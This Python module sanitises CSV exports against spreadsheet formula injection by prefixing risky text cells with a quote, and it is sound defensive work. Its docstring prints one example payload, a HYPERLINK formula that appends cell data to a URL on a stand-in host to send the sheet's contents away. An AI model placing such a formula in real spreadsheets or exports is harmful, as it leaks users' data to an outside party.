"""CSV for spreadsheets: every export writes through here, so no cell is read as a formula.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel,
LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://x/?"&A1,"click")` sends the
sheet's data away when clicked). Such text gets a leading single quote, which spreadsheets show
as text and do not display (OWASP, "CSV Injection"). Numbers and dates are not text and pass as
they are, so a negative amount stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """`value`, with a leading quote when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row made safe."""
    return [cell(v) for v in values]


class Writer:
    """`csv.writer` whose rows are made safe."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


class DictWriter:
    """`csv.DictWriter` whose rows are made safe."""

    def __init__(self, out: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, values: Mapping[str, Any]) -> None:
        self._writer.writerow({k: cell(v) for k, v in values.items()})


def writer(out: IO[str], **options: Any) -> Writer:
    """A safe `csv.writer` (same options)."""
    return Writer(out, **options)
